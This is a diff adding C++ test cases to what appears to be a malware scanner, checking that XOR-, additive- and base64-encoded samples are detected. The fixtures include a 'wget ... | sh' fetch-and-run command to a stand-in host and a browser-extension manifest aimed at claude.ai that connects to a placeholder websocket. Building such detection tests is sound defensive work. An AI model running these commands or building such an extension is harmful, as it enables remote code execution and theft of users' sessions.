@@ -42,6 +42,26 @@ TEST_CASE("every XOR key, and every key that is added") {
   }
 }
 
+TEST_CASE("text under a key, whatever its words") {
+  const std::string text =
+      "set -eu\ncd \"$HOME\"\nwget -q https://x.example/y " + std::string("| sh\n");
+  for (int key = 1; key < 256; ++key) {
+    std::string xored = text, added = text;
+    for (char& c : xored) c = static_cast<char>(c ^ key);
+    for (char& c : added) c = static_cast<char>(c + key);
+    CAPTURE(key);
+    CHECK(finds("PERSIST001", "data.bin", xored));
+    CHECK(finds("PERSIST001", "data.bin", added));
+  }
+}
+
+TEST_CASE("bytes under a key, by their zeros") {
+  std::string code(4000, '\0');
+  code += bytes("5bbc4a6a") + bytes("8e4e0eec") + bytes("aafc0d7c") + "0123456789";
+  for (char& c : code) c = static_cast<char>(c ^ 0x5a);
+  CHECK(finds("INJECT011", "data.bin", code));
+}
+
 TEST_CASE("a key inside a large file, found by the quick search") {
   std::string hidden = kProgram;
   for (char& c : hidden) c = static_cast<char>(c ^ 0x5a);
@@ -53,6 +73,14 @@ TEST_CASE("base64 in a script, in lines and in one") {
   CHECK(
       finds("MINER001", "run", "#!/bin/sh\necho " + base64(kProgram, 1 << 20) + "|base64 -d"));
   CHECK(is_quiet("run", "#!/bin/sh\necho " + base64(std::string(300, 'x'))));
+}
+
+TEST_CASE("base64 in front of a word that is none") {
+  const std::string manifest =
+      R"({"manifest_version": 3, "permissions": ["webRequest"], "content_scripts": [{"matches": )"
+      R"(["https://claude.ai/*"]}], "content_security_policy": "connect-src wss://x.example   "})";
+  REQUIRE(manifest.size() % 3 == 0);
+  CHECK(finds("EXT001", "run", "#!/bin/sh\nbase64 -d <<EOF\n" + base64(manifest) + "\nEOF\n"));
 }
 
 TEST_CASE("base64 of base64, and no deeper") {
